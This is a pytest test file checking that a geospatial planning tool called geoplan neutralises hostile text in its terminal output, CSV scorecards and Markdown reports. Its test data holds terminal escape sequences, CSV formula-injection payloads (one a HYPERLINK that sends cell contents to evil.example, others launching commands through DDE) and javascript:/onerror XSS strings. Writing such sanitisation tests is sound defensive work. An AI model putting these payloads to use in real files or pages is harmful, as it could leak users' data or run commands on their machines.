"""Output text that attacks its reader: terminals, spreadsheets, Markdown (issue 11, class 5).

Data text (unit and station names, bundle titles, missing-layer reasons, recipe and target
titles) reaches three readers besides the HTML map: the terminal (``geoplan`` commands and
their log lines), a spreadsheet (``scorecard.csv``) and a Markdown viewer (``scorecard.md``,
the monitor's ``report.md``, a bundle's ``SOURCES.md``). Every one of them gets the text
through one function of :mod:`geoplan._safetext`; these tests feed hostile text into every
field and read the outputs as the reader would: the terminal's bytes for control characters,
the CSV with :mod:`csv`, the Markdown with a CommonMark parser (markdown-it, with its own link
filter switched off so that a link geoplan let through would show).

Every bundle and recipe here is SYNTHETIC (tests/synthetic.py); nothing is real data.
"""

from __future__ import annotations

import csv
import logging
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from shapely.geometry import Point

from geoplan._safetext import (
    markdown_code,
    markdown_text,
    neutralise_formulas,
    spreadsheet_text,
    terminal_text,
)
from geoplan.cli import main
from geoplan.cli._common import TerminalFormatter, escape
from geoplan.layers import load_bundle
from geoplan.layers.build._bundle import render_sources
from tests import synthetic
from tests.synthetic import X0, Y0

DOCS = Path(__file__).resolve().parents[1] / "docs" / "BAD_INPUTS.md"
SECTION = "## Output text that attacks its reader (terminal, spreadsheet, Markdown)"

#: What reaches a terminal raw is a control character: clear screen, set the window title,
#: ring the bell, C1 CSI, carriage return (overwrites the line), right-to-left override.
TERMINAL_ATTACKS = ("\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x9b31m", "ok\rFAKE", "\u202egnp.exe",
                    "\x00nul", "\x08\x08\x7f")
#: Control characters except line feed and tab (which commands print on purpose).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: Cells spreadsheet tools evaluate (OWASP's CSV injection list, plus full-width forms).
FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            " =1+1", "＝1+1")
#: Markdown that would become a link, an image, raw HTML, a reference definition, emphasis
#: or extra table columns.
MARKDOWN_ATTACKS = ("[bấm](javascript:alert(1))", "<javascript:alert(2)>",
                    "![x](javascript:alert(3))", "<img src=x onerror=alert(4)>",
                    "[r]: javascript:alert(5)", "[r]", "**đậm** _nghiêng_ ~~gạch~~",
                    "a | b | c", "`code` ``x``", "<a href='javascript:alert(6)'>x</a>",
                    "# tiêu đề", "- mục", "1. mục", "> trích", "&#106;avascript:alert(7)",
                    "\\[x\\](javascript:alert(8))")


def _markdown_parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # see all links
    return parser


def _inline_tokens(markdown: str) -> list[Any]:
    tokens = _markdown_parser().parse(markdown)
    out = []
    for token in tokens:
        out.append(token)
        out.extend(token.children or [])
    return out


def _rendered_text(markdown: str) -> str:
    """The text a reader sees (inline text and code spans), joined."""
    return " ".join(t.content for t in _inline_tokens(markdown)
                    if t.type in ("text", "code_inline"))


def _dangerous(markdown: str, *, allowed_images: str = "charts/") -> list[str]:
    """Links, raw HTML and foreign images that a Markdown viewer would render."""
    found = []
    for token in _inline_tokens(markdown):
        if token.type in ("link_open", "html_inline", "html_block"):
            found.append(f"{token.type}: {token.attrs or token.content}")
        if token.type == "image" and not str(token.attrs.get("src", "")).startswith(
                allowed_images):
            found.append(f"image: {token.attrs}")
    return found


# -- the functions themselves -------------------------------------------------------------------
@pytest.mark.parametrize("attack", TERMINAL_ATTACKS)
def test_terminal_text_shows_control_characters_as_escapes(attack: str) -> None:
    shown = terminal_text(f"Phường {attack} Hà Nội")
    assert not RAW_CONTROL.search(shown)
    assert shown.startswith("Phường ") and shown.endswith(" Hà Nội")
    # what was there is said, not dropped: ESC as \x1b, RLO as \u202e
    for char in attack:
        if RAW_CONTROL.match(char):
            assert (f"\\x{ord(char):02x}" if ord(char) < 0x100 else f"\\u{ord(char):04x}") \
                in shown
    assert terminal_text("hai dòng\nvà\ttab") == "hai dòng\nvà\ttab"
    assert terminal_text("một dòng\n", newlines=False) == "một dòng\\x0a"


def test_cli_escape_and_log_formatter_print_no_control_characters() -> None:
    assert escape("[bold]x\x1b[2J") == "\\[bold]x\\x1b[2J"
    record = logging.LogRecord("geoplan.network", logging.WARNING, __file__, 1,
                               "station %s far away", ("Ga\x1b]0;pwned\x07",), None)
    line = TerminalFormatter("%(levelname)s %(name)s: %(message)s").format(record)
    assert line == "WARNING geoplan.network: station Ga\\x1b]0;pwned\\x07 far away"


@pytest.mark.parametrize("formula", FORMULAS)
def test_spreadsheet_text_neutralises_formulas(formula: str) -> None:
    assert spreadsheet_text(formula) == "'" + formula


@pytest.mark.parametrize("text", ["Hà Nội", "≥ 100 km", "49.2%", "2030", "a=b", "Q&A", ""])
def test_spreadsheet_text_leaves_ordinary_text(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_neutralise_formulas_keeps_numbers_numbers() -> None:
    import pandas as pd

    frame = pd.DataFrame({"title": ["=1+1", "Hà Nội"], "gap": [-2.5, 3.0],
                          "year": pd.array([2030, None], dtype="Int64")})
    out = neutralise_formulas(frame)
    assert out["title"].tolist() == ["'=1+1", "Hà Nội"]
    assert out["gap"].tolist() == [-2.5, 3.0]  # a negative number is no formula
    assert str(out["year"].dtype) == "Int64"
    assert frame["title"].tolist() == ["=1+1", "Hà Nội"]  # the input is not modified


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_text_renders_literally(attack: str) -> None:
    for where in ("{}", "| {} | x |\n|---|---|\n| {} | y |", "- key: {}", "# {}"):
        cell = markdown_text(attack)
        document = where.replace("{}", cell)
        assert _dangerous(document) == [], document
        assert attack in _rendered_text(document), (attack, _rendered_text(document))


@pytest.mark.parametrize("key", ["hn.rail_km@2030", "a`b", "``x`` | y", "`", "a\nb"])
def test_markdown_code_holds_any_backticks(key: str) -> None:
    document = f"| {markdown_code(key)} | x |\n|---|---|\n| {markdown_code(key)} | y |"
    codes = [t.content for t in _inline_tokens(document) if t.type == "code_inline"]
    assert codes == [" ".join(key.split())] * 2
    assert _dangerous(document) == []


# -- through the commands ------------------------------------------------------------------------
RECIPE = """\
id: hostile-text
title: {{vi: "Thử\\e[2J\\e]0;pwned\\a", en: "Hostile\\e[2J\\e]0;pwned\\a text"}}
bundle: {bundle}
document:
  number: 99-NQ/TW
  title: {{vi: "[bấm](javascript:alert(1))", en: "[click](javascript:alert(1))"}}
  date: 2021-01-01
  issuer: "<img src=x onerror=alert(4)>"
targets:
  - id: t.rail
    title: {{vi: '=HYPERLINK("http://evil.example","x")', en: '=HYPERLINK("http://evil.example","x")'}}
    indicator: rail_length
    comparator: ">="
    value: 1.5
    unit: km
    year: 2030
    source: {{document: 99-NQ/TW, date: 2021-01-01, section: "@SUM(1+1) [r]: javascript:alert(5)"}}
  - id: t.cov
    title: {{vi: "+cmd|' /C calc'!A0", en: "+cmd|' /C calc'!A0"}}
    indicator: transit_coverage
    options: {{mode: rail, distance_m: 1000}}
    comparator: ">="
    value: 50
    unit: "%"
    year: 2030
    source: {{document: 99-NQ/TW, date: 2021-01-01, section: "2"}}
    note: "![x](javascript:alert(3)) \\e[31mđỏ"
  - id: t.green
    title: {{vi: "-2+3+cmd|' /C calc'!A0 | cột", en: "-2+3+cmd|' /C calc'!A0 | column"}}
    indicator: green_space_per_capita
    scope: unit
    comparator: ">="
    value: 1
    unit: m2/person
    year: 2030
    source: {{document: 99-NQ/TW, date: 2021-01-01, section: "3"}}
"""
TRANSIT = ("admin_units", "city_boundary", "metro_lines", "stations", "green_space")


def _hostile_bundle(tmp: Path) -> Path:
    """SYNTHETIC bundle whose names, title and missing reason carry every attack."""
    units = synthetic.admin_units()
    units["name"] = ["Phường \x1b[2J\x1b]0;pwned\x07A", "Phường [x](javascript:alert(1)) B",
                     "=HYPERLINK(\"http://evil.example\",\"C\")", "Xã \u202eD\x9b31m"]
    stations = synthetic.layers()["stations"]
    stations["name"] = ["Ga \x1b[31mđỏ", "Ga\rFAKE", "+cmd|' /C calc'!A0", "Ga 4"]
    folder = synthetic.write_bundle(tmp / "bundle", roles=TRANSIT,
                                    replace={"admin_units": units, "stations": stations},
                                    missing={"water": "no data \x1b[2J [x](javascript:alert(2))"})
    manifest = folder / "bundle.yaml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(text.replace(
        "title: SYNTHETIC test bundle (not real data)",
        'title: "SYNTHETIC \\e]0;pwned\\a\\e[2J [x](javascript:alert(1)) =1+1"'),
        encoding="utf-8")
    return folder


def _hostile_recipe(tmp: Path, bundle: Path) -> Path:
    path = tmp / "hostile-text.yaml"
    path.write_text(RECIPE.format(bundle=bundle), encoding="utf-8")
    return path


def _no_raw_control(text: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in RAW_CONTROL.findall(text)})
    assert found == [], f"raw control characters reached the terminal: {found}"


def test_layers_show_and_validate_print_no_control_characters(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _hostile_bundle(tmp_path)
    assert main(["layers", "show", str(folder)]) == 0
    assert main(["layers", "validate", str(folder)]) == 0
    assert main(["layers", "list"]) == 0
    printed = capsys.readouterr()
    _no_raw_control(printed.out + printed.err)
    assert "\\x1b]0;pwned\\x07" in printed.out  # shown, visibly, not swallowed


def test_errors_print_no_control_characters(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    # a recipe naming a bundle that does not exist: the name is quoted in the error
    path = tmp_path / "r.yaml"
    path.write_text(RECIPE.format(bundle='"atlantis\\e[2J\\e]0;pwned\\a"'), encoding="utf-8")
    assert main(["run", str(path), "--out", str(tmp_path / "out")]) == 2
    # a bundle problem quoting data: duplicate unit ids that carry an escape sequence
    units = synthetic.admin_units()
    units["unit_id"] = ["A\x1b[2J", "A\x1b[2J", "C", "D"]
    folder = synthetic.write_bundle(tmp_path / "dup", roles=("admin_units", "city_boundary"),
                                    replace={"admin_units": units})
    assert main(["layers", "validate", str(folder)]) == 2
    # a usage error quoting the argument
    assert main(["run", str(path), "--lang", "fr\x1b[2J"]) == 2
    printed = capsys.readouterr()
    _no_raw_control(printed.out + printed.err)
    assert "atlantis\\x1b[2J" in " ".join(printed.err.split())


def test_log_lines_print_no_control_characters(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    # a station 5 km from every street is logged with its name (as a warning)
    stations = synthetic.layers()["stations"]
    stations.loc[len(stations)] = {"station_id": "S9", "name": "Ga\x1b]0;pwned\x07 xa",
                                   "line_id": "L1", "status": "operating",
                                   "opening_date": "2021-11-06", "approximate": False,
                                   "geometry": Point(X0 + 1500, Y0 - 5000)}
    folder = synthetic.write_bundle(tmp_path / "far", roles=(*TRANSIT, "street_network"),
                                    replace={"stations": stations})
    path = tmp_path / "far.yaml"
    text = RECIPE.format(bundle=folder).replace("options: {mode: rail, distance_m: 1000}",
                                                "options: {mode: rail, distance_m: 1000, "
                                                "method: network}")
    path.write_text(text, encoding="utf-8")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--as-of", "2026-11-24"]) \
        == 0
    printed = capsys.readouterr()
    assert "Ga\\x1b]0;pwned\\x07 xa" in printed.err  # the warning names the station, visibly
    _no_raw_control(printed.out + printed.err)


@pytest.fixture
def hostile_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[Path, str]:
    folder = _hostile_bundle(tmp_path)
    path = _hostile_recipe(tmp_path, folder)
    out = tmp_path / "out"
    assert main(["run", str(path), "--out", str(out), "--as-of", "2026-11-24"]) == 0
    printed = capsys.readouterr()
    return out, printed.out + printed.err


def test_run_prints_no_control_characters(hostile_run: tuple[Path, str]) -> None:
    _out, printed = hostile_run
    _no_raw_control(printed)
    assert "\\x1b[2J" in printed


def test_scorecard_csv_cells_are_never_formulas(hostile_run: tuple[Path, str]) -> None:
    out, _ = hostile_run
    # a UTF-8 byte-order mark first (Excel then shows Vietnamese), read away by utf-8-sig
    assert (out / "scorecard.csv").read_bytes().startswith(b"\xef\xbb\xbfkey,")
    with (out / "scorecard.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3
    titles = {row["key"]: row["title"] for row in rows}
    assert titles["t.rail@2030"] == '\'=HYPERLINK("http://evil.example","x")'
    assert titles["t.cov@2030"] == "'+cmd|' /C calc'!A0"
    assert titles["t.green/unit@2030"] == "'-2+3+cmd|' /C calc'!A0 | cột"
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "＝")), \
                (column, cell)
            if cell.startswith("-"):  # only numbers may start with a minus
                float(cell)
    rail = next(r for r in rows if r["key"] == "t.rail@2030")
    assert float(rail["value"]) == pytest.approx(2.0)  # numbers stay numbers (L1: 2 km)
    assert rail["gap"] == "-0.5"  # target minus value: a negative number, written as one


def test_scorecard_markdown_renders_no_link_html_or_column(
        hostile_run: tuple[Path, str]) -> None:
    out, _ = hostile_run
    markdown = (out / "scorecard.md").read_text(encoding="utf-8")
    assert _dangerous(markdown, allowed_images="\0") == []
    table = [t for t in _markdown_parser().parse(markdown) if t.type == "tr_open"]
    assert len(table) == 4  # the header and three targets: "| cột" made no extra row
    cells = [t for t in _markdown_parser().parse(markdown) if t.type == "td_open"]
    assert len(cells) == 3 * 7  # and no extra column
    seen = _rendered_text(markdown)
    assert "[bấm](javascript:alert(1))" in seen  # shown as the text it is
    assert "-2+3+cmd|' /C calc'!A0 | cột" in seen


def test_monitor_report_markdown_renders_no_link_or_html(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _hostile_bundle(tmp_path)
    path = _hostile_recipe(tmp_path, folder)
    out = tmp_path / "out"
    assert main(["monitor", str(path), "--out", str(out), "--period", "year",
                 "--from", "2024-12-31", "--to", "2025-12-31", "--lang", "en"]) == 0
    printed = capsys.readouterr()
    _no_raw_control(printed.out + printed.err)
    report = next((out / "monitor").glob("*.md"))
    markdown = report.read_text(encoding="utf-8")
    assert _dangerous(markdown) == []  # only the charts/ images geoplan draws
    assert "[click](javascript:alert(1))" in _rendered_text(markdown) or \
        "Hostile\\x1b[2J" in _rendered_text(markdown)


def test_sources_markdown_renders_no_link_or_html(tmp_path: Path) -> None:
    folder = _hostile_bundle(tmp_path)
    manifest = load_bundle(folder).manifest
    markdown = render_sources(manifest, ["[note](javascript:alert(9)) <script>x</script>"])
    assert _dangerous(markdown) == []
    seen = _rendered_text(markdown)
    assert "[x](javascript:alert(1)) =1+1" in seen
    assert "[note](javascript:alert(9)) <script>x</script>" in seen


# -- docs ------------------------------------------------------------------------------------------
CASES = ("terminal_control_characters", "terminal_log_lines", "terminal_usage_errors",
         "markdown_statistic_unit",
         "csv_formula_cells", "markdown_links_and_html", "markdown_code_backticks")


def test_bad_inputs_doc_lists_the_text_cases() -> None:
    text = DOCS.read_text(encoding="utf-8")
    assert SECTION in text
    section = text[text.index(SECTION):].split("\n## ", 1)[0]
    for case in CASES:
        assert f"| `{case}` |" in section, case


def test_statistic_unit_is_markdown_text(tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    # a statistic's unit is free text (a target's must match its indicator's): it reaches the
    # Value cell of scorecard.md and must be escaped there like every other cell
    unit = "m2 [x](javascript:alert(1)) <img src=x onerror=alert(1)> | extra \\e[2J"
    folder = synthetic.write_bundle(tmp_path / "b", roles=("admin_units", "city_boundary"))
    path = tmp_path / "s.yaml"
    path.write_text(f"""\
id: stat-unit
title: {{vi: t, en: t}}
bundle: {folder}
document: {{number: x, title: {{vi: x, en: x}}, date: 2021-01-01, issuer: SYNTHETIC}}
statistics:
  - id: s.h
    title: {{vi: s, en: s}}
    comparator: ">="
    value: 30
    unit: "{unit}"
    year: 2030
    source: {{document: x, date: 2021-01-01, section: "3"}}
    reported:
      - {{value: 27, unit: "{unit}", date: 2024-06-30, source: SYNTHETIC}}
""", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(path), "--out", str(out), "--as-of", "2026-01-01"]) == 0
    printed = capsys.readouterr()
    _no_raw_control(printed.out + printed.err)
    markdown = (out / "scorecard.md").read_text(encoding="utf-8")
    _no_raw_control(markdown)
    assert _dangerous(markdown, allowed_images="\0") == []
    cells = [t for t in _markdown_parser().parse(markdown) if t.type == "td_open"]
    assert len(cells) == 7  # one row of seven cells: the unit's "|" made no column
    assert "27 m2 [x](javascript:alert(1)) <img src=x onerror=alert(1)> | extra \\x1b[2J" \
        in _rendered_text(markdown)
